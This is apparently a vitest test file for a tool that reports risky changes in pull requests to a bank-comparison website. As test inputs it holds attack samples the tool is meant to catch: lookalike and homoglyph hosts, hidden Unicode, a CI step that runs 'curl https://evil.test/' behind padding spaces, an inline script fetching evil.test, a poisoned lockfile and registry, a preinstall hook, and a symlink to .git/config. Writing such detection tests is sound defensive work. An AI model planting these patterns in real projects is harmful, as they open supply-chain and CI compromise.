import fc from 'fast-check';
import { expect, test } from 'vitest';
import { GUIDE_TEXTS, inTurn, LISTING, RECORD as FIRST, replacing, SAVINGS, TODAY } from '../../checks/fixture.ts';
import { HOSTS } from '../../checks/hosts.ts';
import { compare } from './compare.ts';
import { reportOf } from './report.ts';
import { CUT, withChanges, type FileChange, type FileState, type Revisions } from './revisions.ts';

const TERMS = 'src/content/pages/terms.mdx';
const SOURCES = 'src/data/sources.yaml';
const CHECK = '.github/workflows/check.yml';
const LAYOUT = 'src/layouts/Page.astro';

/** The small guide with two more banks, and the code around it in a few lines. */
const BASE: Readonly<Record<string, string>> = {
  ...Object.fromEntries(GUIDE_TEXTS),
  ...Object.fromEntries(
    ['Royal', 'Other'].map((name) => [`src/content/banks/${name.toLowerCase()}/index.mdx`, another(name)]),
  ),
  [CHECK]: 'on: pull_request\npermissions:\n  contents: read\njobs:\n  check:\n    steps:\n      - run: npm test\n',
  'package.json': '{ "scripts": { "test": "vitest" }, "dependencies": { "astro": "7.0.0" } }',
  'package-lock.json': lockOf('7.0.0'),
  'checks/check.ts': 'export const RULES = [a, b];\n',
  'scripts/diff/run.ts': 'console.log("facts");\n',
  'netlify.toml': '[build]\ncommand = "npm run build"\n',
  'public/_headers': '/*\n  X-Frame-Options: DENY\n',
  'public/icon.png': '\0one picture',
  'src/styles/colours.css': ':root { --ink: black; }\n',
  'src/components/islands/Gauge.tsx': 'export const Gauge = () => null;\n',
  [LAYOUT]: '<html><body><slot /></body></html>\n',
  'README.md': '# Guide\n',
};

function another(name: string): string {
  const first = GUIDE_TEXTS.get(FIRST) ?? '';
  return first
    .replaceAll('First', name)
    .replaceAll('first', name.toLowerCase())
    .replace('a day [@', 'a day, always [@');
}

function lockOf(version: string, more: object = {}): string {
  const resolved = `https://registry.npmjs.org/astro/-/astro-${version}.tgz`;
  return JSON.stringify({
    packages: { '': {}, 'node_modules/astro': { version, resolved, integrity: `sha512-${version}`, ...more } },
  });
}

type TextEdit = (text: string) => string;

/** A new text, an edit of the present text, `undefined` for a removed file, or a moved file or one of another kind. */
type Edit = string | undefined | TextEdit | { text: string; from?: string; mode?: string };
type Edits = Readonly<Record<string, Edit>>;

const change = (path: string, old: string, now: string): Edits => ({ [path]: replacing(old, now) });
const append = (path: string, text: string): Edits => ({ [path]: (before) => before + text });
const moved = (from: string, to: string, edit: TextEdit = String): Edits => ({
  [to]: { from, text: edit(BASE[from] ?? '') },
});
const everyRecord = (edit: TextEdit): Edits =>
  Object.fromEntries(Object.keys(BASE).flatMap((path) => (/banks\/\w+\/index\.mdx$/.test(path) ? [[path, edit]] : [])));

/** Edits of the record of First, of the address of its only source, and of the text before a sentence of its page. */
const inFirst = (old: string, now: string) => change(FIRST, old, now);
const readAt = (url: string) => inFirst('https://first.example/fees', url);
const beforeText = (text: string) => inFirst('You can send', `${text} You can send`);
const linkTo = (url: string) => change(SAVINGS, '(/banks/first/#security)', `(${url})`);

const NEW_LIMIT = replacing('value: $3,000\n      source: listed', 'value: $10,000\n      source: listed');
const OUTSIDE_LINK = replacing('You can send up to', 'See [the terms](https://terms.example/a). You can send up to');
const NEW_UNION = (GUIDE_TEXTS.get(LISTING) ?? '')
  .replaceAll('Harbour', 'New')
  .replace('https://harbour', 'https://xn--nw-eka');
const READ_AGAIN = replacing('consulted: 2026-11-20', 'consulted: 2026-11-23');

/**
 * A proposal, and texts that its report contains, each after its heading: `Top` is above all headings, `…` skips any text.
 * `no Facts, Texts` is a report without these headings.
 */
const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
  // Addresses
  [
    readAt('https://f1rst.example/fees'),
    'Danger: new host: `https://f1rst.example/fees`, was `https://first.example/fees`…looks like first.example',
    'Sources: another address, and not read again',
  ],
  [
    { [FIRST]: (text) => text.replaceAll('https://first.example', 'https://f1rst.example') },
    'Danger: addresses on a new host: `https://f1rst.example`, was `https://first.example`…looks like first.example',
  ],
  [readAt('https://fіrst.example/fees'), 'Danger: another script…looks like first.example'],
  [readAt('https://firsst.example/fees'), 'Danger: one letter from first.example'],
  [readAt('https://frist.example/fees'), 'Danger: one letter from first.example'],
  [
    inFirst('website: https://first.example/', 'website: https://first.test/'),
    'Danger: first.example with another ending',
    'Facts: Website: was https',
  ],
  [readAt('https://first.example.login.test/fees'), 'Danger: has the name of first.example in it'],
  [readAt('https://first-login.test/fees'), 'Danger: has the name of first.example in it'],
  [readAt('https://first.example@evil.test/fees'), 'Danger: a user name in front of the host'],
  [readAt('https://192.0.2.1/fees'), 'Danger: an IP address'],
  [
    change(SOURCES, 'https://regulator.example/notice', 'https://notice.test/'),
    'Danger: new host: `https://notice.test',
    'Sources: regulator…used by',
  ],
  [
    append(HOSTS, '\n- evil.ca\n- app1e.com\n'),
    'Danger: becomes known: `app1e.com` ⚠ **looks like apple.com**',
    'Danger: becomes known: `evil.ca`',
  ],
  [change(HOSTS, '- apps.apple.com\n', ''), 'Danger: known host: `apps.apple.com` is gone'],
  [
    inFirst('website: https://first.example/', 'website: https://royal.example/'),
    'Danger: another host: `https://royal…not among the hosts of First until now',
  ],
  [{ [FIRST]: OUTSIDE_LINK }, 'Danger: new host: `https://terms.example/a`', 'Texts: How it works'],
  [linkTo('https://firsst.example/'), 'Danger: firsst.example…one letter from'],
  [linkTo('//evil.test/a'), 'Danger: //evil.test/a'],
  [linkTo('javascript:alert`1`'), 'Danger: an address that is no web page'],
  [beforeText('Write to help@f1rst.example.'), 'Danger: mailbox: `help@f1rst.example`…looks like'],
  [everyRecord(OUTSIDE_LINK), 'Danger: terms.example…first…royal…other'],
  [
    inFirst('https://apps.apple.com/ca/app/first/id1', 'https://apps.evil.test/ca/app/first/id1'),
    'Danger: apps.evil.test',
    'Facts: App Store listing, address',
  ],
  // Characters
  [inFirst('name: First Bank', 'name: First B\u0430nk'), 'Danger: another script: `B⟨U+0430⟩nk`'],
  [inFirst('$3,000 a day', '$3,0\u200b00 a day'), 'Danger: invisible characters: `$3,0⟨U+200B⟩00`'],
  [change(TERMS, 'Nobody may', 'Nobody \u202emay'), 'Danger: U+202E'],
  [{ [TERMS]: replacing('Nobody', 'Nobody\u{E0041}\u{E0042}') }, 'Danger: U+E0041'],
  [
    inFirst('publisher: First Bank', 'publisher: First Ba\u0301nk'),
    'Danger: made of parts: `Ba⟨U+0301⟩nk`',
    'Sources: now First Ba⟨U+0301⟩nk…the same address under another publisher',
  ],
  [change(TERMS, 'Nobody', '\u0430\u0441\u0430'), 'Danger: another script: `⟨U+0430⟩⟨U+0441⟩⟨U+0430⟩`'],
  [inFirst('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10'), 'Danger: another script'],
  [{ 'src/content/banks/f\u0456rst.mdx': BASE[FIRST] }, 'Danger: another script: `src/content/banks/f⟨U+0456⟩rst.mdx`'],
  // With a zero byte git shows no text.
  [append(CHECK, '# \0\n'), 'Top: + # ⟨U+0000⟩', 'Danger: that cannot be shown as text: `.github'],
  [change('checks/check.ts', '[a, b]', '[a, \u2066b]'), 'Danger: U+2066'],
  // Telephone numbers, insurers, code in texts
  ...[
    '1-800-555-0199',
    '1 (800) 555-0199',
    '18005550199',
    '1\u2011800\u2011555\u20110199',
    '1-800-BANKING',
    '+44 20 7946 0000',
  ].map((number) => [beforeText(`Call ${number}.`), `Danger: telephone number: \`${number}\``] as const),
  [
    inFirst(
      'faq:',
      'support:\n  phones:\n    - label: Fraud\n      number: 1-800-555-0142\n      source: first-fees\nfaq:',
    ),
    'Danger: telephone number: `1-800-555-0142`',
    'Facts: Fraud: was not on record, now 1-800-555-0142',
  ],
  [
    inFirst('value: CDIC', 'value: Trust us'),
    'Danger: insurer: `Trust us`, was `CDIC`',
    'Facts: Deposit insurance: was CDIC, now Trust us…the value changed, its source and date did not…on `/banks/first/`',
    'no Texts',
  ],
  [
    append(SAVINGS, "\nimport x from 'node:fs'\n"),
    'Danger: code in a text: `import x',
    'Top: does not pass the content check',
  ],
  [append(SAVINGS, CUT), 'Danger: line too long to be read…compared to its 2,000th character'],
  [append(SAVINGS, '\n<iframe src="x"></iframe>\n'), 'Danger: code in a text: `<iframe'],
  // Values and their evidence
  [
    {
      [FIRST]: inTurn(
        READ_AGAIN,
        replacing('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees'),
      ),
    },
    'Facts: now $3,500…+ Fees, `first.example`, official',
    'Only read again: 1 of their values changed',
  ],
  [
    inFirst('value: CDIC\n  source: regulator', 'value: CDIC\n  source: first-fees'),
    'Facts: source replaced…another source for the same value',
  ],
  [
    inFirst(
      'claims:\n      - value: $1.00\n        source: listed\n      - value: Free\n        source: first-fees',
      'value: Free\n    source: first-fees',
    ),
    'Facts: was $1.00 or Free, now Free…a claim that disagreed is gone: $1.00 by listed',
  ],
  [
    inFirst('value: CDIC\n  source: regulator', 'value: CDIC and us\n  source: first-fees'),
    'Facts: its new source was declared before, and was not read again',
  ],
  [
    {
      [FIRST]: replacing('value: $3,000\n      source: listed', 'value: $9,000\n      source: listed'),
      'src/content/banks/royal/index.mdx': replacing('value: true', 'value: false'),
    },
    'Facts: **First**: e-Transfer limit, 24 hours: was $3,000, now $9,000',
    'Facts: **Royal**: Interac e-Transfer: was yes, now no',
  ],
  [
    {
      [FIRST]: inTurn(
        replacing('- value: $1.00\n        source: listed', '- value: $1.00\n        source: first-fees'),
        replacing('- value: Free\n        source: first-fees', '- value: Free\n        source: listed'),
      ),
    },
    'Facts: who says what changed (− “$1.00”, Listed…− “Free”, Fees…+ “$1.00”, Fees…+ “Free”, Listed',
  ],
  [
    inFirst('limits:\n  eTransfer:\n    per24Hours:\n      value: $3,000\n      source: listed\n', ''),
    'Facts: was $3,000, now not on record',
  ],
  [
    inFirst('value: true', 'value: false'),
    'Facts: was yes, now no…⚠ **capabilities.etransfer is false, and fees.eTransfer says otherwise',
    'Facts: Score: **First** … → 0 of',
  ],
  [
    inFirst('Its own page says free.', 'Its own page says free up to $500,000.'),
    'Facts: fees.eTransfer.note: …**$500,000',
  ],
  [
    inFirst('up to $3,000 a day', 'up to $5,000 a day'),
    'Texts: How it works: You can send up to <del>**$3,000**</del> <ins>**$5,000**</ins> a day …in no field of the record: $5,000',
  ],
  [inFirst('title: First Bank online', 'title: CDIC'), 'Texts: page.title…CDIC'],
  [
    change('src/data/shared-facts.yaml', 'Up to $1.50', 'Up to $2.00'),
    'Facts: Every institution…was Up to $1.50, now Up to $2.00',
  ],
  [everyRecord(replacing('value: CDIC', 'value: CDIC, up to $1')), 'Facts: 3 institutions…Deposit insurance'],
  [everyRecord(replacing('## Mobile app\n\nText.', '## Mobile app\n\nWords.')), 'Texts: 3 pages…Mobile app'],
  [
    change('src/data/capabilities.yaml', 'colour: n5\n    weight: 1', 'colour: n5\n    weight: 4'),
    'Facts: Score',
    String.raw`Texts: groups\[1\].weight`,
  ],
  [
    change('src/data/capabilities.yaml', 'weight: 1', 'importance: 1'),
    'Top: Scores are not compared: in head, src/data/capabilities.yaml or the records',
  ],
  // Sources and dates
  [
    change(SOURCES, 'kind: third-party', 'kind: official'),
    'Sources: kind was third-party, now official…now counts as official',
  ],
  [inFirst('publisher: First Bank', 'publisher: Regulator'), 'Sources: publisher was First Bank, now Regulator'],
  [
    everyRecord(READ_AGAIN),
    'Only read again: 3 sources consulted again, no value changed: consulted was 2026-11-20, now 2026-11-23, stored copy, not opened live',
  ],
  [change(SOURCES, 'published: 2025-08-28', 'published: 2026-08-28'), 'Sources: another date, and not read again'],
  [inFirst('faq:', 'lastVerified: 2026-11-24\nfaq:'), 'Facts: Last verified…1 of its 1 sources were not read since'],
  [
    { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
    'Sources: regulator**: removed…still used',
    'Top: does not pass the content check: 1 new issue',
  ],
  // Pages
  [
    { 'src/content/banks/third.mdx': another('Third').replace(/page:\n[^]*?---\n\n[^]*$/, '---\n') },
    'Pages: Added: **Third** `third, without a page`',
    'Danger: third.example',
    'Sources: third-fees**: added',
    'Facts: **Third**, new, Fees, `third.example`, official: Status **operating**; Serves **Ontario**',
  ],
  [moved(TERMS, 'src/content/pages/rules.mdx'), 'Pages: Moved: **Terms** from `/terms/` to `/rules/`'],
  [
    moved(FIRST, 'src/content/banks/premier/index.mdx', NEW_LIMIT),
    'Pages: Moved: **First** from `/banks/first/` to `/banks/premier/`',
    'Facts: was $3,000, now $10,000',
  ],
  [{ [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, 'Styles and code: Content and data (1)'],
  [inFirst('type: bank', 'type: bank\nname: Other'), 'Top: cannot be read in head'],
  [{ [LISTING]: undefined }, 'Pages: Removed: **Harbour**'],
  [{ [FIRST]: '---\nfees: &a {}\nlimits: *a\n---\n' }, 'Top: it has a YAML alias'],
  // The other files are still compared.
  ...['---\nname: "First\n---\n', 'No frontmatter.\n', '---\nfees: &a {}\nlimits: *a\n---\n'].map(
    (text) =>
      [
        { [FIRST]: text, 'src/data/shared-facts.yaml': replacing('$1.50', '$2.00') },
        'Top: src/content/banks/first/index.mdx cannot be read in head and is not compared',
        'Top: does not pass the content check',
        'Facts: now Up to $2.00',
        'no Pages, Sources, Texts',
      ] as const,
  ),
  // Readers see nothing of a draft.
  [
    { 'src/content/credit-unions/new.mdx': NEW_UNION.replace('---\n', '---\ndraft: true\n') },
    'Top: src/content/credit-unions/new.mdx is a draft',
    'Danger: xn--nw-eka.example',
    'no Facts, Sources, Pages, Texts, Styles and code',
  ],
  [{ 'src/content/credit-unions/new.mdx': NEW_UNION }, 'Danger: xn--nw-eka.example', 'Pages: Added: **New**'],
  [inFirst('name: First Bank', 'name: First Bank # so it says'), 'Styles and code: Content and data (1)'],
  [
    inFirst('name: First Bank', 'name: First Bank # check: allow style: it is right'),
    'Danger: exception from the content check',
  ],
  // Code and settings
  [
    change(CHECK, 'contents: read', 'contents: write-all'),
    'Top: **Workflows and settings on GitHub changed (1)**',
    'Top: + contents: write-all',
  ],
  [
    moved(CHECK, '.github/workflows/checks.yml', replacing('contents: read', 'contents: write')),
    'Top: Workflows and settings on GitHub changed',
    'Top: + contents: write',
  ],
  // The same line is in another job already.
  [
    { [CHECK]: (text) => text.replace('    steps:', '    permissions:\n      contents: read\n    steps:') },
    'Top: + contents: read',
  ],
  [
    {
      '.github/workflows/new.yml': `on: push\n${Array.from({ length: 30 }, (_, at) => `# ${at}\n`).join('')}permissions: write-all\n`,
    },
    'Top: + permissions: write-all',
    'Top: … and 20 lines more',
  ],
  [
    { [CHECK]: replacing('npm test', `npm test ${' '.repeat(700)}; curl https://evil.test/`) },
    'Top: + - run: npm test ; curl https://evil.test/',
    'Danger: evil.test',
  ],
  [
    { 'checks/check.ts': 'export const RULES = [];', 'scripts/diff/run.ts': '', 'src/history/facts.ts': '' },
    'Top: **Tools and checks changed (3)**: `checks/check.ts`, `scripts/diff/run.ts`, `src/history/facts.ts`',
  ],
  [
    change(LAYOUT, '<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>'),
    'Top: **Code that runs in pages changed',
    'Top: + …<script is:inline',
    'Danger: evil.test',
  ],
  [
    { 'src/components/facts/Gauge.tsx': 'export const Gauge = () => undefined;\n', 'src/search/engine.ts': '' },
    'Top: **Code that runs in pages changed (2)**: `src/components/facts/Gauge.tsx`, `src/search/engine.ts`',
  ],
  [
    {
      'package.json': replacing('"astro"', '"evil": "1.0.0", "astro"'),
      'package-lock.json': lockOf('7.0.1', { hasInstallScript: true }),
    },
    'Top: dependencies.evil: nothing → 1.0.0',
    'Top: astro: 7.0.0 → 7.0.1, runs a script when it is installed',
  ],
  [
    { 'package-lock.json': lockOf('7.0.0', { integrity: 'sha512-x', resolved: 'https://evil.test/a.tgz' }) },
    'Top: comes from https://evil.test…the same version with other content',
  ],
  [
    { 'package-lock.json': lockOf('7.0.1', { integrity: 1, hasInstallScript: 'yes' }) },
    'Top: astro: 7.0.0 → 7.0.1, runs a script when it is installed, without a checksum',
  ],
  [
    change('package.json', '"scripts": {', '"scripts": { "preinstall": "node x.js",'),
    'Top: scripts.preinstall: nothing → node x.js',
  ],
  [
    change('package-lock.json', '/astro/-/astro-', '/astr0/-/astr0-'),
    'Top: astro: 7.0.0 → 7.0.0, comes from https://registry.npmjs.org/astr0',
  ],
  [
    change('package.json', '{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"'),
    'Top: overrides.astro: nothing → 1.0.0',
  ],
  [
    { '.npmrc': 'registry=https://evil.test/\n' },
    'Top: Packages',
    'Top: + registry=https://evil.test',
    'Danger: evil.test',
  ],
  [{ 'src/content/.gitattributes': '*.mdx -diff\n' }, 'Top: Git settings', 'Top: + *.mdx -diff'],
  [
    { 'src/content/pages/secret.mdx': { mode: '120000', text: '../../../.git/config' } },
    'Danger: link to another file: `../../../.git/config`',
  ],
  [
    { vendor: { mode: '160000', text: '' }, '.gitmodules': '[submodule "vendor"]\n\turl = https://evil.test/a\n' },
    'Top: Git settings',
    'Top: + url = https://evil.test/a',
    'Danger: another repository inside this one: `vendor`',
  ],
  [
    append('netlify.toml', '[[redirects]]\nfrom = "/*"\nto = "https://evil.test/:splat"\n'),
    'Top: + to = "https://evil.test',
  ],
  [
    { 'public/icon.png': '\0another picture' },
    'Styles and code: Styles and images (1)',
    'Danger: cannot be shown as text: `public/icon.png`',
  ],
  [{ 'public/robots.txt': 'User-agent: *\nDisallow: /\n' }, 'Top: Files served unchanged', 'Top: + Disallow: /'],
  [change('public/_headers', 'DENY', 'SAMEORIGIN'), 'Top: Hosts and their headers changed', 'Top: SAMEORIGIN'],
  [{ 'public/x.html': '<script>1</script>' }, 'Top: Files served unchanged changed…public/x.html'],
  [
    change('src/styles/colours.css', 'black', 'red'),
    'Styles and code: Styles and images (1): `src/styles/colours.css`',
  ],
  [change('README.md', 'Guide', 'Guides'), 'Styles and code: Documentation (1)'],
];

/** Compares the small guide and its code with an edited copy, as git would read them. */
function compareWith(edits: Edits) {
  const stateOf = (text: string | undefined, mode = '100644'): FileState | undefined =>
    text === undefined ? undefined : { text, mode };
  const changes = Object.entries(edits).flatMap(([path, edit]): FileChange[] => {
    const { from, text, mode } =
      typeof edit === 'object' ? edit : { text: typeof edit === 'function' ? edit(BASE[path] ?? '') : edit };
    return text === BASE[path] ? [] : [{ path, from, before: stateOf(BASE[from ?? path]), after: stateOf(text, mode) }];
  });
  const base = new Map(Object.entries(BASE).filter(([path]) => /^src\/(content|data)\//.test(path)));
  const revisions: Revisions = {
    code: { name: 'main', changed: [] },
    base: { name: 'main', commit: '', files: base },
    head: { name: 'edit', commit: '', files: withChanges(base, changes) },
    changes,
    commitsSince: 0,
  };
  return { changes, comparison: compare(revisions, TODAY) };
}

test.each(CASES.map(([edits, ...expected]) => ({ title: expected.join('; '), edits, expected })))(
  '$title',
  ({ edits, expected }) => {
    let heading = 'Top';
    const lines = reportOf(compareWith(edits).comparison)
      .split('\n')
      .map((line) => {
        heading = /^### (?<heading>.+)/.exec(line)?.groups?.heading ?? heading;
        return `${heading}: ${line}`;
      });
    for (const text of expected) {
      if (text.startsWith('no ')) {
        for (const absent of text.slice('no '.length).split(', '))
          expect(lines).not.toContain(`${absent}: ### ${absent}`);
      } else {
        const pattern = text.replace(': ', ': …').split('…').map(RegExp.escape).join('.*');
        expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${pattern}`)));
      }
    }
  },
);

test('whatever changes, the report names every changed file, and never says that nothing differs', () => {
  const anyPath = fc.oneof(
    fc.constantFrom(
      ...GUIDE_TEXTS.keys(),
      'package.json',
      'package-lock.json',
      '.github/workflows/a.yml',
      LAYOUT,
      'public/a.js',
    ),
    fc.stringMatching(/^(src\/(content|data)\/)?[a-z.]{1,8}(\/[a-z]{1,5}){0,2}(\.mdx|\.yaml|\.ts)?$/),
  );
  const anyText = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom(...GUIDE_TEXTS.values()),
    fc.constant(undefined),
  );
  const anyEdit = fc.record({ path: anyPath, insert: anyText, at: fc.nat(3000), cut: fc.nat(40) });
  fc.assert(
    fc.property(fc.uniqueArray(anyEdit, { selector: ({ path }) => path, maxLength: 4 }), (inserts) => {
      const edits = inserts.map(({ path, insert, at, cut }): [string, string | undefined] => {
        const before = BASE[path] ?? '';
        return [path, insert === undefined ? undefined : before.slice(0, at) + insert + before.slice(at + cut)];
      });
      const { changes, comparison } = compareWith(Object.fromEntries(edits));
      const { facts, scores, texts, sources, pages, areas, dangers, notes } = comparison;
      const moved = pages.flatMap(({ from, to }) => to ?? from ?? []);
      const files = [...facts, ...scores, ...texts, ...sources, ...moved].map(({ file }) => file);
      const named = new Set([...files, ...[...areas, ...dangers].flatMap((group) => group.files)]);
      for (const { path } of changes)
        expect(named.has(path) || notes.some((note) => note.startsWith(`${path} `))).toBe(true);
      const report = reportOf(comparison);
      expect(report.includes('Nothing differs.')).toBe(changes.length === 0);
      if (changes.length > 0) expect(report.split('\n').length).toBeGreaterThan(2);
      expect(Buffer.byteLength(report)).toBeLessThan(65_536);
    }),
    { numRuns: 60 },
  );
});
